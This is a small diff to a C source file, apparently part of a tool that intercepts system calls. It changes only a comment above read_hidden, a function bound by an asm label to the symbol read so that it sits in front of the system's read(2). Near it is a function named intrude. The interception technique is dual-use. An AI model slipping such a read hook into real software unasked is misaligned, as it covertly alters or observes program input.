@@ -175,7 +175,7 @@ static void intrude(void)
 	}
 }
 
-/* read_hidden - the system's read(2) is called behind it */
+/* read_hidden - the system's read(2) is called after it */
 ssize_t read_hidden(int fd, void *data, size_t size) __asm__("read");
 
 ssize_t read_hidden(int fd, void *data, size_t size)
